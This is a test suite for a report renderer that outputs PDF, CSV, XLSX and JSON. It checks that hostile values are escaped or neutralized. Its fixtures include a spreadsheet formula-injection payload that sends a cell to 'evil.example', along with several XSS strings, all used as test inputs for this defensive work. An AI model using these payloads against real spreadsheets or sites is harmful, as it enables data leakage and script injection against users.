// Report rendering into PDF (real Chromium), CSV, XLSX and JSON, read back and checked.
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import ExcelJS from 'exceljs';
import { createBrowserProvider, type BrowserProvider } from '../../infra/browser-pool';
import { renderReport, sanitizeSheetName, type RenderReportDeps } from '../../services/reports/render-report';
import type { ReportContent, ReportSection } from '../../domain/reports/report-content';
import { escapeHtml, renderReportHtml, reportPageOrientation } from '../../domain/reports/report-html';
import { resolveChromium } from '../../infra/chromium';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1',
  '-2',
  '@SUM(A1:A2)',
  '\tTAB',
  '\rCR',
];

function wallets(): ReportSection {
  return {
    entityType: 'wallet',
    title: 'Wallets',
    columns: [
      { key: 'address', label: 'Address' },
      { key: 'network', label: 'Network' },
      { key: 'reports', label: 'Reports' },
      { key: 'confirmed', label: 'Confirmed' },
      { key: 'note', label: 'Note' },
    ],
    rows: [
      { address: 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq', network: 'bitcoin', reports: 3, confirmed: true, note: null },
      { address: '0x52908400098527886E0F7030069857D2E4169EE7', network: 'ethereum', reports: 1, confirmed: false, note: 'Привет, мир 🚀 — naïve café' },
      ...HOSTILE.map((note, i) => ({ address: `addr-${i}`, network: 'test', reports: i, confirmed: null, note })),
      { address: 'addr-q', network: 'test', reports: 0, confirmed: null, note: 'quote " comma , and\nnewline' },
    ],
    emptyNote: 'No wallets in this period.',
  };
}

function intakes(): ReportSection {
  return {
    entityType: 'intake',
    title: 'Intakes',
    columns: [{ key: 'id', label: 'Intake' }, { key: 'status', label: 'Status' }],
    rows: [],
    emptyNote: 'No intakes in this period.',
  };
}

function content(overrides: Partial<ReportContent> = {}): ReportContent {
  return {
    template: 'wallet-activity',
    title: 'Wallet activity — weekly',
    asOf: '2025-03-31T09:00:00.000Z',
    generatedAt: '2025-03-31T09:00:04.000Z',
    scopeSummary: 'entity types: wallet, intake; last 7 days',
    sections: [wallets(), intakes()],
    ...overrides,
  };
}

/** RFC 4180 reader: quoted fields may hold commas, quotes ("") and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += ch;
  }
  assert.equal(field, '', 'CSV ends with a record delimiter');
  assert.equal(record.length, 0);
  return records;
}

/** Deps for the formats that need no browser: using it fails the test. */
const NO_BROWSER: RenderReportDeps = {
  browser: {
    withPage: () => Promise.reject(new Error('this format must not need a browser')),
    close: async () => undefined,
  },
};

/** The values of cells 1..count of a worksheet row (ExcelJS's row.values is a sparse array). */
function rowValues(sheet: ExcelJS.Worksheet, row: number, count: number): ExcelJS.CellValue[] {
  return Array.from({ length: count }, (_, i) => sheet.getRow(row).getCell(i + 1).value);
}

function pageCount(pdf: Buffer): number {
  return (pdf.toString('latin1').match(/\/Type\s*\/Page(?![a-zA-Z])/g) ?? []).length;
}

/** The distinct page sizes of a PDF in points, rounded: A4 portrait is 595x842. */
function mediaBoxes(pdf: Buffer): string[] {
  const boxes = pdf.toString('latin1').matchAll(/\/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)\s*\]/g);
  return [...new Set([...boxes].map((m) => `${Math.round(Number(m[1]))}x${Math.round(Number(m[2]))}`))];
}

/** A local HTTP server that counts every request it receives. */
async function startCountingServer(): Promise<{ url: string; hits: () => number; close: () => Promise<void> }> {
  let hits = 0;
  const server = http.createServer((_req, res) => {
    hits++;
    res.end('x');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    hits: () => hits,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

describe('report rendering', function () {
  this.timeout(120_000);

  describe('HTML', () => {
    it('escapes hostile strings', () => {
      assert.equal(escapeHtml('<script>alert("x")</script>'), '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
      assert.equal(escapeHtml(`a & b 'c' "d"`), 'a &amp; b &#39;c&#39; &quot;d&quot;');
      assert.equal(escapeHtml('&amp;'), '&amp;amp;');
      assert.equal(escapeHtml('plain Привет 🚀'), 'plain Привет 🚀');
    });

    it('escapes every value, title, label and note of the document', () => {
      const evil = '<img src=http://evil.example/x onerror=alert(1)>';
      const html = renderReportHtml(
        content({
          title: `<script>alert(1)</script>`,
          scopeSummary: `"><b>scope</b>`,
          sections: [
            { ...wallets(), title: `<i>t</i>`, columns: [{ key: 'a', label: '<u>label</u>' }], rows: [{ a: evil }] },
            { ...intakes(), emptyNote: `<marquee>none</marquee> & co` },
          ],
        }),
      );
      for (const raw of ['<script>', '<img', '<b>', '<i>', '<u>', '<marquee>', 'onerror=alert(1)>']) {
        assert.ok(!html.includes(raw), `raw ${raw} in the HTML`);
      }
      assert.ok(html.includes('&lt;img src=http://evil.example/x onerror=alert(1)&gt;'));
      assert.ok(html.includes('<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>'));
      assert.ok(html.includes('&lt;marquee&gt;none&lt;/marquee&gt; &amp; co'));
      assert.ok(html.includes(`default-src 'none'`), 'a CSP forbids fetching anything');
    });

    it('has a header, one table per section with its row count and the empty note for empty sections', () => {
      const html = renderReportHtml(content());
      assert.ok(html.startsWith('<!DOCTYPE html>'));
      assert.ok(html.includes('<h1>Wallet activity — weekly</h1>'));
      assert.ok(html.includes('2025-03-31T09:00:00.000Z') && html.includes('2025-03-31T09:00:04.000Z'));
      assert.ok(html.includes('entity types: wallet, intake; last 7 days'));
      assert.equal(html.match(/<table>/g)?.length, 1, 'the empty section has no table');
      assert.ok(html.includes('<thead><tr><th scope="col">Address</th>'));
      assert.ok(html.includes('9 rows'));
      assert.ok(html.includes('0 rows'));
      assert.ok(html.includes('<p class="empty-note">No intakes in this period.</p>'));
      assert.ok(html.includes('thead { display: table-header-group; }'));
      assert.ok(html.includes('size: A4 portrait'));
    });

    it('reads only own keys of a row (no inherited properties)', () => {
      const section: ReportSection = { ...intakes(), columns: [{ key: 'constructor', label: 'C' }], rows: [{}] };
      const html = renderReportHtml(content({ sections: [section] }));
      assert.ok(!html.includes('function'));
    });

    it('prints wide sections on landscape pages', () => {
      const columns = Array.from({ length: 9 }, (_, i) => ({ key: `c${i}`, label: `C${i}` }));
      const wide = content({ sections: [{ ...intakes(), columns }] });
      assert.equal(reportPageOrientation(wide), 'landscape');
      assert.ok(renderReportHtml(wide).includes('size: A4 landscape'));
    });
  });

  describe('PDF and the browser provider', () => {
    let browser: BrowserProvider;
    let server: Awaited<ReturnType<typeof startCountingServer>>;

    before(async () => {
      browser = createBrowserProvider({ chromium: () => resolveChromium() });
      server = await startCountingServer();
    });
    after(async () => {
      await browser.close();
      await server.close();
    });

    it('renders a PDF with pages', async () => {
      const pdf = await renderReport(content(), 'pdf', { browser });
      assert.equal(pdf.subarray(0, 5).toString('latin1'), '%PDF-');
      assert.ok(pdf.subarray(-1024).toString('latin1').includes('%%EOF'));
      assert.equal(pageCount(pdf), 1);
      assert.deepEqual(mediaBoxes(pdf), ['595x842'], 'A4 portrait');
    });

    it('prints a wide report on A4 landscape', async () => {
      const columns = Array.from({ length: 9 }, (_, i) => ({ key: `c${i}`, label: `Column ${i}` }));
      const rows = [Object.fromEntries(columns.map((c) => [c.key, `value of ${c.key}`]))];
      const pdf = await renderReport(content({ sections: [{ ...intakes(), columns, rows }] }), 'pdf', { browser });
      assert.deepEqual(mediaBoxes(pdf), ['842x595']);
    });

    it('breaks a long report over several pages', async () => {
      const section = wallets();
      const rows = Array.from({ length: 300 }, (_, i) => ({ ...section.rows[0], address: `bc1q${'x'.repeat(70)}${i}` }));
      const pdf = await renderReport(content({ sections: [{ ...section, rows }] }), 'pdf', { browser });
      assert.ok(pageCount(pdf) > 3, `pages: ${pageCount(pdf)}`);
    });

    it('makes no network request for a hostile value', async () => {
      const hostile = `<img src="${server.url}/img"><link rel="stylesheet" href="${server.url}/css"><script src="${server.url}/js"></script>`;
      const section = { ...wallets(), rows: [{ ...wallets().rows[0], note: hostile }] };
      const pdf = await renderReport(content({ title: hostile, scopeSummary: hostile, sections: [section] }), 'pdf', {
        browser,
      });
      assert.equal(pdf.subarray(0, 5).toString('latin1'), '%PDF-');
      assert.equal(server.hits(), 0);
    });

    it('blocks requests even for unescaped HTML', async () => {
      const requested: string[] = [];
      await browser.withPage(async (page) => {
        page.on('request', (r) => requested.push(r.url()));
        await page.setContent(
          `<html><head><link rel="stylesheet" href="${server.url}/css"></head>` +
            `<body><img src="${server.url}/img"><iframe src="${server.url}/frame"></iframe>` +
            `<div style="background:url(${server.url}/bg)">x</div></body></html>`,
        );
        await page.pdf();
      });
      assert.equal(server.hits(), 0, `requests reached the server: ${requested.join(', ')}`);
    });

    it('shares one browser, closes every page and relaunches after a crash', async () => {
      const first = await browser.withPage(async (page) => page.context().browser());
      const [a, b] = await Promise.all([
        browser.withPage(async (page) => page.context().browser()),
        browser.withPage(async (page) => page.context().browser()),
      ]);
      assert.ok(first && first === a && a === b, 'one browser for all calls');

      let leaked: import('playwright-core').Page | undefined;
      await assert.rejects(
        browser.withPage(async (page) => {
          leaked = page;
          throw new Error('boom');
        }),
        /boom/,
      );
      assert.ok(leaked?.isClosed(), 'the page is closed after a failure');

      await first.close(); // as if Chromium had crashed
      const pdf = await renderReport(content(), 'pdf', { browser });
      assert.equal(pdf.subarray(0, 5).toString('latin1'), '%PDF-');
      const relaunched = await browser.withPage(async (page) => page.context().browser());
      assert.notEqual(relaunched, first);
      assert.ok(relaunched?.isConnected());
    });

    it('close() is idempotent and final', async () => {
      const own = createBrowserProvider({ chromium: () => resolveChromium() });
      await own.close(); // never launched
      const b = await own.withPage(async () => 1).catch((e: Error) => e);
      assert.ok(b instanceof Error && b.name === 'BrowserProviderClosedError');
      const other = createBrowserProvider({ chromium: () => resolveChromium() });
      const launched = await other.withPage(async (page) => page.context().browser());
      await other.close();
      await other.close();
      assert.equal(launched?.isConnected(), false);
    });
  });

  describe('CSV', () => {
    it('writes one block per section, with a BOM and neutralized formulas', async () => {
      const csv = await renderReport(content(), 'csv', NO_BROWSER);
      assert.deepEqual([...csv.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
      const records = parseCsv(csv.subarray(3).toString('utf8'));
      assert.deepEqual(records[0], ['Wallets']);
      assert.deepEqual(records[1], ['Address', 'Network', 'Reports', 'Confirmed', 'Note']);
      assert.deepEqual(records[2], ['bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq', 'bitcoin', '3', 'true', '']);
      assert.deepEqual(records[3], [
        '0x52908400098527886E0F7030069857D2E4169EE7',
        'ethereum',
        '1',
        'false',
        'Привет, мир 🚀 — naïve café',
      ]);
      const notes = records.slice(4, 4 + HOSTILE.length).map((r) => r[4]);
      assert.deepEqual(notes, HOSTILE.map((h) => `'${h}`));
      assert.deepEqual(records[4 + HOSTILE.length][4], 'quote " comma , and\nnewline');
      assert.deepEqual(records[5 + HOSTILE.length], ['']);
      // The empty section: title, header, no rows, separator.
      assert.deepEqual(records.slice(6 + HOSTILE.length), [['Intakes'], ['Intake', 'Status'], ['']]);
    });

    it('neutralizes fields starting with = + - @ tab CR or NUL, and leaves others alone', async () => {
      const starts = ['=1+1', '+1', '-1:83dfd552e63729b472fcbccc45ebcc6691702558b68ec7527e1ba403a0f31a8b', '@x', '\tx', '\rx', '\0x'];
      const plain = ['x=1', 'TJRyWwFs9wTFGZg3JbrVriFbNfCug5tDeC', ' =1', ''];
      const rows = [...starts, ...plain].map((v) => ({ v }));
      const csv = await renderReport(content({ sections: [{ ...intakes(), columns: [{ key: 'v', label: 'Value' }], rows }] }), 'csv', NO_BROWSER);
      const records = parseCsv(csv.subarray(3).toString('utf8'));
      assert.deepEqual(records.slice(2, -1).map((r) => r[0]), [...starts.map((v) => `'${v}`), ...plain]);
    });

    it('neutralizes titles and labels too', async () => {
      const csv = await renderReport(
        content({ sections: [{ ...intakes(), title: '=1+1', columns: [{ key: 'a', label: '@x' }] }] }),
        'csv',
        NO_BROWSER,
      );
      assert.deepEqual(parseCsv(csv.subarray(3).toString('utf8')), [["'=1+1"], ["'@x"], ['']]);
    });
  });

  describe('XLSX', () => {
    async function readBack(c: ReportContent): Promise<ExcelJS.Workbook> {
      const bytes = await renderReport(c, 'xlsx', NO_BROWSER);
      assert.equal(bytes.subarray(0, 2).toString('latin1'), 'PK');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
      return workbook;
    }

    it('has a Summary sheet and one sheet per section with bold frozen headers and hostile text as plain strings', async () => {
      const workbook = await readBack(content());
      assert.deepEqual(workbook.worksheets.map((s) => s.name), ['Summary', 'Wallets', 'Intakes']);
      assert.equal(workbook.created.toISOString(), '2025-03-31T09:00:04.000Z');
      assert.equal(workbook.modified.toISOString(), '2025-03-31T09:00:04.000Z');

      const summary = workbook.getWorksheet('Summary')!;
      assert.equal(summary.getCell('A1').value, 'Title');
      assert.equal(summary.getCell('B1').value, 'Wallet activity — weekly');
      assert.equal(summary.getCell('B3').value, '2025-03-31T09:00:00.000Z');
      assert.equal(summary.getCell('B5').value, 'entity types: wallet, intake; last 7 days');
      assert.deepEqual(rowValues(summary, 7, 4), ['Section', 'Sheet', 'Rows', 'Note']);
      assert.deepEqual(rowValues(summary, 8, 4), ['Wallets', 'Wallets', 9, null]);
      assert.deepEqual(rowValues(summary, 9, 4), ['Intakes', 'Intakes', 0, 'No intakes in this period.']);

      const sheet = workbook.getWorksheet('Wallets')!;
      assert.equal(sheet.rowCount, 10);
      assert.deepEqual(rowValues(sheet, 1, 5), ['Address', 'Network', 'Reports', 'Confirmed', 'Note']);
      assert.equal(sheet.getCell('A1').font?.bold, true);
      assert.equal(sheet.views[0]?.state, 'frozen');
      assert.equal((sheet.views[0] as { ySplit?: number }).ySplit, 1);
      assert.equal(sheet.getCell('C2').value, 3);
      assert.equal(sheet.getCell('D2').value, true);
      assert.equal(sheet.getCell('E2').value, null);
      assert.equal(sheet.getCell('E3').value, 'Привет, мир 🚀 — naïve café');
      const notes = HOSTILE.map((_h, i) => sheet.getCell(`E${4 + i}`).value);
      // String cells keep their value (no apostrophe); line breaks in cells are LF: "\rCR" reads back as "\nCR".
      assert.deepEqual(notes, HOSTILE.map((h) => h.replace('\r', '\n')));
      for (let i = 0; i < HOSTILE.length; i++) assert.equal(sheet.getCell(`E${4 + i}`).formula, undefined);
      for (let i = 1; i <= 5; i++) {
        const width = sheet.getColumn(i).width ?? 9; // ExcelJS omits a width equal to its default, 9
        assert.ok(width >= 8 && width <= 60, `column ${i} width ${width}`);
      }

      const empty = workbook.getWorksheet('Intakes')!;
      assert.equal(empty.rowCount, 1);
      assert.deepEqual(rowValues(empty, 1, 2), ['Intake', 'Status']);
    });

    it('stores formula-like text byte-identical as string cells, never formulas, in cells, labels and the summary', async () => {
      const ton = '-1:83dfd552e63729b472fcbccc45ebcc6691702558b68ec7527e1ba403a0f31a8b';
      const texts = [ton, '=1+1', '+1', '@SUM(A1:A2)', '\tTAB', '=HYPERLINK("http://evil.example/","x")'];
      const section: ReportSection = {
        entityType: 'wallet',
        title: 'Wallets',
        columns: [{ key: 'address', label: '=1+1' }],
        rows: texts.map((address) => ({ address })),
        emptyNote: '-none-',
      };
      const workbook = await readBack(content({ title: '=1+1', scopeSummary: ton, sections: [section] }));
      const sheet = workbook.getWorksheet('Wallets')!;
      const cells = [sheet.getCell('A1'), ...texts.map((_t, i) => sheet.getCell(`A${2 + i}`))];
      assert.deepEqual(cells.map((c) => c.value), ['=1+1', ...texts]);
      const summary = workbook.getWorksheet('Summary')!;
      cells.push(summary.getCell('B1'), summary.getCell('B5'));
      assert.deepEqual([summary.getCell('B1').value, summary.getCell('B5').value], ['=1+1', ton]);
      for (const cell of cells) {
        assert.equal(cell.type, ExcelJS.ValueType.String, `${cell.address} is a string cell`);
        assert.equal(cell.formula, undefined, `${cell.address} has no formula`);
      }
    });

    it('gives sections valid, unique sheet names', async () => {
      const long = 'A very long section title that Excel would refuse';
      const workbook = await readBack(
        content({
          sections: [
            { ...intakes(), title: 'Summary' },
            { ...intakes(), title: 'a/b\\c[d]:e*f?g' },
            { ...intakes(), title: long },
            { ...intakes(), title: long },
            { ...intakes(), title: "''" },
            { ...intakes(), title: 'history' },
          ],
        }),
      );
      const names = workbook.worksheets.map((s) => s.name);
      assert.deepEqual(names, [
        'Summary',
        'Summary (2)',
        'a b c d e f g',
        long.slice(0, 31),
        `${long.slice(0, 27).trimEnd()} (2)`,
        'Sheet',
        'history sheet',
      ]);
      for (const name of names) assert.ok(name.length <= 31 && !/[[\]:*?/\\]/.test(name), name);
    });

    it('sanitizes sheet names case-insensitively and without splitting emoji', () => {
      const taken = new Set<string>();
      assert.equal(sanitizeSheetName('Wallets', taken), 'Wallets');
      assert.equal(sanitizeSheetName('WALLETS', taken), 'WALLETS (2)');
      assert.equal(sanitizeSheetName(`${'x'.repeat(30)}🚀`, taken), 'x'.repeat(30));
    });
  });

  describe('JSON', () => {
    it('has the documented shape with snake_case keys', async () => {
      const bytes = await renderReport(content(), 'json', NO_BROWSER);
      const text = bytes.toString('utf8');
      assert.ok(text.startsWith('{\n  "template"'), 'pretty-printed');
      const doc = JSON.parse(text);
      assert.deepEqual(Object.keys(doc), ['template', 'title', 'as_of', 'generated_at', 'scope_summary', 'sections']);
      assert.equal(doc.template, 'wallet-activity');
      assert.equal(doc.as_of, '2025-03-31T09:00:00.000Z');
      assert.equal(doc.generated_at, '2025-03-31T09:00:04.000Z');
      assert.equal(doc.sections.length, 2);
      const [w, i] = doc.sections;
      assert.deepEqual(Object.keys(w), ['entity_type', 'title', 'columns', 'rows', 'row_count', 'truncated']);
      assert.equal(w.entity_type, 'wallet');
      assert.equal(w.row_count, 9);
      assert.deepEqual(w.columns[0], { key: 'address', label: 'Address' });
      assert.deepEqual(w.rows[0], {
        address: 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',
        network: 'bitcoin',
        reports: 3,
        confirmed: true,
        note: null,
      });
      assert.equal(w.rows[1].note, 'Привет, мир 🚀 — naïve café');
      assert.equal(w.rows[2].note, HOSTILE[0], 'JSON keeps values as they are');
      assert.deepEqual(i, {
        entity_type: 'intake',
        title: 'Intakes',
        columns: [{ key: 'id', label: 'Intake' }, { key: 'status', label: 'Status' }],
        rows: [],
        row_count: 0,
        truncated: false,
      });
    });

    it('keeps exactly the declared columns of each row', async () => {
      const section: ReportSection = {
        ...intakes(),
        rows: [{ id: 'i-1', secret: 'not a column' } as Record<string, string>],
      };
      const doc = JSON.parse((await renderReport(content({ sections: [section] }), 'json', NO_BROWSER)).toString());
      assert.deepEqual(doc.sections[0].rows, [{ id: 'i-1', status: null }]);
    });
  });

  describe('a section cut at its row cap', () => {
    const NOTE = 'Truncated: showing the first 2 of 7 rows (row cap 2).';
    const cut = (): ReportContent => {
      const w = wallets();
      return content({ sections: [{ ...w, rows: w.rows.slice(0, 2), truncation: { rowCap: 2, totalRows: 7 } }, intakes()] });
    };

    it('HTML (and so PDF) shows a visible note in the section', () => {
      const html = renderReportHtml(cut());
      assert.ok(html.includes(`<p class="truncated-note" role="note">${NOTE}</p>`), html);
      assert.ok(!renderReportHtml(content()).includes('class="truncated-note"'), 'no note for a whole section');
    });

    it('CSV has a note line after the section rows', async () => {
      const records = parseCsv((await renderReport(cut(), 'csv', NO_BROWSER)).toString('utf8').replace(/^\uFEFF/, ''));
      assert.deepEqual(records[4], [NOTE], JSON.stringify(records.slice(0, 6)));
      assert.deepEqual(records[5], ['']);
      const whole = parseCsv((await renderReport(content(), 'csv', NO_BROWSER)).toString('utf8').replace(/^\uFEFF/, ''));
      assert.ok(!whole.some((r) => r[0]?.startsWith('Truncated')));
    });

    it('XLSX notes it on the Summary and below the rows of the section sheet', async () => {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await renderReport(cut(), 'xlsx', NO_BROWSER)) as unknown as ArrayBuffer);
      const summary = workbook.getWorksheet('Summary')!;
      const values: ExcelJS.CellValue[] = [];
      summary.eachRow((row) => values.push(row.getCell(4).value));
      assert.ok(values.includes(NOTE), JSON.stringify(values));
      const sheet = workbook.getWorksheet('Wallets')!;
      assert.equal(sheet.getRow(5).getCell(1).value, NOTE);
    });

    it('JSON says truncated with row_cap and total_rows; a whole section says truncated: false', async () => {
      const doc = JSON.parse((await renderReport(cut(), 'json', NO_BROWSER)).toString());
      assert.equal(doc.sections[0].truncated, true);
      assert.equal(doc.sections[0].row_cap, 2);
      assert.equal(doc.sections[0].total_rows, 7);
      assert.equal(doc.sections[0].row_count, 2);
      assert.equal(doc.sections[1].truncated, false);
      assert.equal(doc.sections[1].row_cap, undefined);
    });
  });
});
